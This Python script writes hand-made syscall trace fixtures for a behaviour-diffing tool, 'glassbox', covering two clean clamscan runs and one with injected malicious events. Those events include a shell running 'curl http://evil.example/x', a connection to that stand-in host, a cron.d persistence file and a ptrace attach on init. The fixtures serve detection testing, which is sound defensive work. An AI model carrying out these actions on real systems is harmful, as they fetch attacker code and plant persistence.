#!/usr/bin/env python3
"""Writes the hand-made trace fixtures in this folder (docs/trace-format.md, version 1).

clamscan-run1/run2: the same scan twice (only pids and the random temp-dir name differ), so
`glassbox diff` must report nothing and a profile learned from one must accept the other.
clamscan-injected: the same scan plus known injected behaviour (a shell spawning curl, a DNS
query, a connect, a write into /etc/cron.d, a ptrace attempt): diff must report exactly these.
Run it from anywhere: python3 tests/data/traces/make_fixtures.py
"""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
HEADER = {"type": "header", "format": "glassbox-trace", "version": 1, "glassbox_version": "0.1.0",
          "mode": "run", "command": ["clamscan", "-r", "/srv/samples"], "cwd": "/root", "host": "lab1",
          "kernel": "6.18.44", "start_wall": "2026-11-28T00:10:58.123456789Z",
          "start_ns": 1795824658123456789, "root_pid": 4242,
          "cgroup": "/sys/fs/cgroup/unified/glassbox-4241"}


def ev(kind, pid, comm, exe, ppid=4241, **kw):
    d = {"type": kind, "ts": 0, "pid": pid, "tid": pid, "ppid": ppid, "uid": 0, "euid": 0,
         "comm": comm, "exe": exe}
    d.update(kw)
    return d


def build(tmpname, pid, extra=()):
    events = []
    cs = "/usr/bin/clamscan"

    def add(kind, **kw):
        events.append(ev(kind, pid, "clamscan", cs, **kw))

    add("exec", path=cs, raw_path="clamscan", argv=["clamscan", "-r", "/srv/samples"],
        argv_truncated=False, cwd="/root", ret=0, syscall="execve")
    for lib in ["/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/x86_64-linux-gnu/libclamav.so.11.0.2"]:
        add("open", path=lib, raw_path=lib, flags=524288, access="read", create=False, truncate=False,
            ret=3, syscall="openat")
        add("mmap_exec", path=lib, prot=5, flags=2, ret=140000000000)
    add("open", path=None, raw_path="/usr/lib/x86_64-linux-gnu/tls/libz.so.1", flags=524288, access="read",
        create=False, truncate=False, ret=-2, errno="ENOENT", syscall="openat")
    add("open", path="/etc/clamav/clamd.conf", raw_path="/etc/clamav/clamd.conf", flags=0, access="read",
        create=False, truncate=False, ret=3, syscall="openat")
    add("open", path=f"/proc/{pid}/status", raw_path="/proc/self/status", flags=0, access="read",
        create=False, truncate=False, ret=3, syscall="openat")
    for db in ["daily.cld", "main.cvd", "bytecode.cvd"]:
        add("open", path="/var/lib/clamav/" + db, raw_path="/var/lib/clamav/" + db, flags=0, access="read",
            create=False, truncate=False, ret=4, syscall="openat")
        add("close", path="/var/lib/clamav/" + db, fd=4, bytes_read=1000, bytes_written=0, reads=3, writes=0)
    add("mkdir", path=f"/tmp/{tmpname}", raw_path=f"/tmp/{tmpname}", mode=448, ret=0, syscall="mkdir")
    for s in ("a.exe", "b.pdf", "c.zip"):
        add("open", path="/srv/samples/" + s, raw_path="/srv/samples/" + s, flags=0, access="read",
            create=False, truncate=False, ret=5, syscall="openat")
        tmp = f"/tmp/{tmpname}/unpack.tmp"
        add("open", path=tmp, raw_path=tmp, flags=65, access="write", create=True, truncate=False, mode=384,
            ret=6, syscall="openat")
        add("unlink", path=tmp, raw_path=tmp, ret=0, syscall="unlink")
    add("rmdir", path=f"/tmp/{tmpname}", raw_path=f"/tmp/{tmpname}", ret=0, syscall="rmdir")
    add("socket", family="unix", sock_type="stream", protocol=0, ret=7)
    add("connect", family="unix", sock_type="stream", path="/run/clamav/clamd.ctl", ret=-2, errno="ENOENT")
    events.extend(extra)
    add("exit", exit_code=0, thread=False)
    for i, e in enumerate(events):
        e["ts"] = 1000 * (i + 1)
    counts = {}
    for e in events:
        counts[e["type"]] = counts.get(e["type"], 0) + 1
    summary = {"type": "summary", "events": len(events), "counts": counts, "duration_ns": 1000 * len(events),
               "lost": 0, "lost_by_cpu": [0, 0], "exit": {"code": 0}, "ended_by": "exit", "complete": True}
    return [dict(HEADER, root_pid=pid)] + events + [summary]


def write(name, lines):
    with open(os.path.join(HERE, name), "w") as f:
        for line in lines:
            f.write(json.dumps(line, separators=(",", ":")) + "\n")


def injected(pid):
    sh, curl, cs = pid + 58, pid + 59, "/usr/bin/clamscan"
    return [
        ev("fork", pid, "clamscan", cs, child_pid=sh, child_tid=sh, thread=False, syscall="clone"),
        ev("exec", sh, "sh", "/usr/bin/dash", ppid=pid, path="/usr/bin/dash", raw_path="/bin/sh",
           argv=["sh", "-c", "curl http://evil.example/x"], argv_truncated=False, cwd="/root", ret=0,
           syscall="execve"),
        ev("fork", sh, "sh", "/usr/bin/dash", ppid=pid, child_pid=curl, child_tid=curl, thread=False,
           syscall="clone"),
        ev("exec", curl, "curl", "/usr/bin/curl", ppid=sh, path="/usr/bin/curl", raw_path="/usr/bin/curl",
           argv=["curl", "http://evil.example/x"], argv_truncated=False, cwd="/root", ret=0, syscall="execve"),
        ev("dns", curl, "curl", "/usr/bin/curl", ppid=sh, name="evil.example", qtype="A", server="127.0.0.53",
           server_port=53, ret=30),
        ev("connect", curl, "curl", "/usr/bin/curl", ppid=sh, family="inet", sock_type="stream",
           addr="203.0.113.66", port=80, ret=-115, errno="EINPROGRESS"),
        ev("open", pid, "clamscan", cs, path="/etc/cron.d/clam-persist", raw_path="/etc/cron.d/clam-persist",
           flags=577, access="write", create=True, truncate=True, mode=420, ret=8, syscall="openat"),
        ev("priv", pid, "clamscan", cs, op="ptrace", request="PTRACE_ATTACH", target_pid=1,
           target_exe="/usr/lib/systemd/systemd", ret=-1, errno="EPERM"),
    ]


write("clamscan-run1.trace", build("clamav-1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d", 4242))
write("clamscan-run2.trace", build("clamav-9f8e7d6c5b4a39281706f5e4d3c2b1a0", 5151))
write("clamscan-injected.trace", build("clamav-0011223344556677889900aabbccddee", 6262, injected(6262)))
